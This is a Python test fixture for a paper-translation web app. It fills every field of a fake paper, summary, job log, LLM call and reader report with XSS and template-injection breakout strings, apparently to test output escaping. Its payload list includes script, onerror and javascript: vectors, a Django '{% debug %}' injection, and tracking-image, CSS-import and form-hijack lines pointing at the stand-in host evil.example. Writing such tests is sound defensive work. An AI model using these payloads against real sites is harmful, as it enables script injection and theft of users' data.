"""Mallory writes a paper and answers for the model: every field is an attack."""

from papers.models import Finding, Job, LLMCall, ReviewEvent, Summary, Term
from posts.models import Report
from tests import base

# Ways out of text, of an attribute, of a script, of a textarea, of CDATA, of a comment and of MathML.
BREAKOUTS = [
    "<mallory></mallory>",
    "\"><mallory onclick='x'></mallory>",
    "'><mallory></mallory>",
    "</script><script>mallory()</script>",
    "</textarea></title><img src=x onerror=mallory()>",
    "]]><mallory></mallory>",
    "--><mallory></mallory>",
    "<svg/onload=mallory()>",
    "[x](javascript:mallory())",
    "![x](//evil.example/track.png)",
    '<a href="jav&#x09;ascript:mallory()">x</a>',
    "$\\text{<script>mallory()</script>}$",
    "$\\href{javascript:mallory()}{x}$",
    "<math><annotation-xml encoding='text/html'><script>mallory()</script></annotation-xml></math>",
    "{{ 7|add:7 }}{% debug %}",
    "<style>@import '//evil.example'</style>",
    "<iframe srcdoc='<script>mallory()</script>'></iframe>",
    "<base href=//evil.example><form action=//evil.example><input name=x>",
]
PAYLOAD = " ".join(BREAKOUTS)
SHORT = "\"'><mallory onclick=x>"


def paper(arxiv_id: str, *tags: str) -> Summary:
    """A public paper all of whose words are Mallory's."""
    made = base.make_paper(
        arxiv_id,
        title=PAYLOAD,
        abstract=f"{PAYLOAD} We convert accents.",
        authors=[SHORT, PAYLOAD],
        categories=["cs.SD", "cs.CL", SHORT],
        comment=PAYLOAD,
        doi=f"10.1/{SHORT}",
        journal=PAYLOAD,
        licence=f"javascript:mallory()//{SHORT}",
        versions=[
            {"version": 1, "created": "2026-01-27T00:00:00+00:00", "size": SHORT, "source_type": SHORT}
        ],
    )
    made.tags.add(*tags, SHORT)
    text = {"title": PAYLOAD, "abstract": f"{PAYLOAD}我们转换口音。", "reading": reading()}
    summary = base.make_summary("needs_review", made, **text)
    base.make_entry(base.make_post(published=True), summary)
    return summary


def reading() -> str:
    parts = ["研究背景与既有方法的问题", "核心方法", "任务与效果"]
    return "\n\n".join(f"## {number}. {part}\n- {PAYLOAD}" for number, part in enumerate(parts, 1))


def office_rows(summary: Summary) -> None:
    """What the machine and a reader left about that paper, theirs in every field."""
    job = Job.objects.create(
        kind="translate",
        subject=summary.paper.arxiv_id,
        state="dead",
        reason=PAYLOAD[:500],
        error_class=SHORT,
    )
    LLMCall.objects.create(
        key="mallory", job=job, paper=summary.paper, purpose="translate", model=SHORT, prompt_version="1",
        opened_at=base.NOON, reply=PAYLOAD, error_class=SHORT,
    )  # fmt: skip
    Finding.objects.create(
        summary=summary, revision=summary.current, part="abstract", check_name="number_changed", level="block",
        message=PAYLOAD[:400], fingerprint="mallory",
    )  # fmt: skip
    Report.objects.create(paper=summary.paper, sentence=PAYLOAD, message=PAYLOAD, contact=SHORT)
    Term.objects.create(english=SHORT, chinese=SHORT)
    ReviewEvent.record(summary, "edited", "needs_review", "needs_review", base.chief(), PAYLOAD)
